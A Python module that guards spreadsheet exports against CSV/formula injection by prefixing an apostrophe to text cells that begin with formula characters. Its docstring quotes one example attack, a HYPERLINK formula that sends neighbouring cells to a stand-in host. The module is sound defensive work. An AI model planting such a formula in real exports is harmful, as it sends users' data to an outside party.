"""Spreadsheet cells that cannot turn into formulas (CSV/formula injection, OWASP).

A spreadsheet program reads a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("http://evil.example/?"&A1, "…")`` sends the neighbouring cells away),
and a leading tab or carriage return hides such a start from a naive check. Every CSV and XLSX
export writes its text cells through :func:`safe_cell`: such a text gets a leading apostrophe,
which Excel and LibreOffice show as plain text (interfaces.md, "Exports"). Numbers, dates and
empty cells pass unchanged, so figures stay numbers.
"""
from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

#: the first characters that make a spreadsheet evaluate a cell
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value to write into a cell: text starting with a formula character gets ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def safe_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    return {k: safe_cell(v) for k, v in row.items()}
